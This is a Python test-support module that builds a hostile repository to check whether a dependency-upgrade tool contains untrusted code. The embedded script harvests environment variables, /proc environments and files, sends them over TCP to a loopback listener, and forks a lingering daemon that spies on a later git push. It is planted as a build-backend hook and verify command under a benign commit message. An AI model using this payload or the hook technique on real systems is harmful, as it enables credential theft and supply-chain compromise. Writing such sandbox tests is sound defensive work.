"""A hostile repository: its build backend and its verification command hunt for secrets and report home.

They report over TCP to a listener the test runs on loopback (the realistic way out), and leave a
background process behind that sends heartbeats and watches /proc for the job's next `git push`.
"""

from __future__ import annotations

import asyncio
import json
import re
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tests.support.backend import write_backend_package
from tests.support.gitrepos import commit_all
from tests.support.repos import lock

# Stdlib only; runs as the build backend's hook (WHO = "backend") and as `python3 attack.py verify`.
SCRIPT = '''\
import glob, json, os, select, signal, socket, sys, time

PORT, MARKER, FILES, PIDS = {port!r}, {marker!r}, {files!r}, {pids!r}
WHO = globals().get("WHO") or (sys.argv[1] if len(sys.argv) > 1 else "script")


def send(kind, data, sock=None):
    line = (json.dumps({{"who": WHO, "kind": kind, "data": data}}) + "\\n").encode()
    try:
        if sock is not None:
            sock.sendall(line)
            return
        with socket.create_connection(("127.0.0.1", PORT), timeout=5) as once:
            once.sendall(line)
    except OSError:
        if sock is not None:
            os._exit(0)


def read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read(200000).decode("utf-8", "replace")
    except OSError as exc:
        return "<" + type(exc).__name__ + ">"


def processes():
    found = {{}}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            found[pid] = {{
                "cmdline": read(f"/proc/{{pid}}/cmdline"), "environ": read(f"/proc/{{pid}}/environ"),
            }}
    return found


def hunt():
    found = {{"env": dict(os.environ), "proc": processes(), "files": {{}}, "listings": {{}}, "signals": {{}}}}
    for pattern in FILES:
        for path in glob.glob(pattern, recursive=True)[:200] or [pattern]:
            if os.path.isdir(path):
                found["listings"][path] = read_dir(path)
            else:
                found["files"][path] = read(path)
    for pid in [*PIDS, *(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid())]:
        try:
            os.kill(pid, signal.SIGTERM if pid in PIDS else 0)
            found["signals"][str(pid)] = "delivered"
        except OSError as exc:
            found["signals"][str(pid)] = type(exc).__name__
    send("found", found)


def read_dir(path):
    try:
        return sorted(os.listdir(path))
    except OSError as exc:
        return "<" + type(exc).__name__ + ">"


def linger():
    """Leave a process behind that outlives this step if it can (a new session, re-parented).

    This step goes on only once that process has sent its first heartbeat, so it is surely running.
    """
    ready, told = os.pipe()
    if os.fork():
        os.close(told)
        os.wait()
        select.select([ready], [], [], 30)
        os.close(ready)
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    os.set_inheritable(told, True)
    os.execv(sys.executable, [sys.executable, os.path.abspath(__file__), "linger", MARKER, str(told)])


def watch():
    """Heartbeats, and the environment of any git that talks to the remote (the next push)."""
    try:
        sock = socket.create_connection(("127.0.0.1", PORT), timeout=5)
    except OSError:
        os._exit(0)
    deadline = time.monotonic() + 240
    beat = 0
    while time.monotonic() < deadline:
        beat += 1
        send("heartbeat", beat, sock)
        if beat == 1:
            os.write(int(sys.argv[3]), b"1")
            os.close(int(sys.argv[3]))
        for pid, seen in processes().items():
            words = seen["cmdline"].split("\\0")
            remote = {{"push", "fetch", "clone", "ls-remote"}} & set(words)
            if remote and any(w.endswith("git") for w in words):
                send("git", seen, sock)
        time.sleep(0.05)
    os._exit(0)


if WHO == "linger":
    watch()
else:
    hunt()
    linger()
'''


@dataclass
class Report:
    """One line received from the repository's code, with where and when it arrived."""

    who: str
    kind: str
    data: Any
    connection: int
    at: float


@dataclass
class Listener:
    """The loopback listener the hostile code reports to; it keeps every byte received."""

    reports: list[Report] = field(default_factory=list)
    raw: list[bytes] = field(default_factory=list)
    open_connections: set[int] = field(default_factory=set)
    server: asyncio.Server | None = None
    port: int = 0

    async def start(self) -> None:
        # Unsandboxed, one report holds the environment of every process of the machine.
        self.server = await asyncio.start_server(self._serve, "127.0.0.1", 0, limit=1 << 28)
        self.port = self.server.sockets[0].getsockname()[1]

    async def stop(self) -> None:
        assert self.server is not None
        self.server.close()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        connection = id(writer)
        self.open_connections.add(connection)
        try:
            while line := await reader.readline():
                self.raw.append(line)
                item = json.loads(line)
                report = Report(item["who"], item["kind"], item["data"], connection, time.monotonic())
                self.reports.append(report)
        except (ConnectionError, ValueError):
            pass
        finally:
            self.open_connections.discard(connection)
            writer.close()

    def text(self) -> str:
        return b"".join(self.raw).decode(errors="replace")

    def of(self, who: str, kind: str) -> list[Report]:
        return [report for report in self.reports if report.who == who and report.kind == kind]


def host_processes_with(marker: str) -> list[int]:
    """Processes of this machine whose command line holds `marker`."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and marker.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def leaked(text: str, secrets: list[str]) -> list[str]:
    """Which secret values (or an app JWT of any kind) appear in `text`."""
    found = [secret for secret in secrets if secret and secret in text]
    if re.search(r"eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}", text):
        found.append("a JWT")
    return found


def make_hostile(work: Path, *, port: int, marker: str, files: list[str], pids: list[int]) -> None:
    """Turn the example work tree into the hostile repository and commit it (push it yourself).

    A path dependency `evil/` whose backend alone can tell its version (so uv runs it to lock), in
    both variants, and a `[[verify]]` command running the same script.
    """
    write_backend_package(work / "evil", "evil", "1.0")
    for manifest in ("pyproject.toml", "pyproject.vllm.toml"):
        text = (work / manifest).read_text()
        text = text.replace('    "peft>=0.17.0",\n', '    "peft>=0.17.0",\n    "evil",\n')
        (work / manifest).write_text(text + '\n[tool.uv.sources]\nevil = { path = "evil" }\n')
    lock(work, "pyproject.toml", "uv.lock")
    lock(work, "pyproject.vllm.toml", "uv.vllm.lock")
    # Armed only now: locking above ran its backend here, outside any sandbox.
    (work / "attack.py").write_text(SCRIPT.format(port=port, marker=marker, files=files, pids=pids))
    hook = (
        "import runpy\n"
        "here = os.path.dirname(os.path.abspath(__file__))\n"
        "runpy.run_path(os.path.join(here, '..', '..', 'attack.py'), init_globals={'WHO': 'backend'})"
    )
    write_backend_package(work / "evil", "evil", "1.0", hook=hook)
    config = work / ".github" / "upgrade-deps.toml"
    config.parent.mkdir(parents=True, exist_ok=True)
    existing = config.read_text() if config.exists() else ""
    verify = '\n[[verify]]\nname = "attack"\nrun = "python3 attack.py verify"\ntimeout = 120\n'
    config.write_text(existing + verify)
    commit_all(work, "Add a helper package")
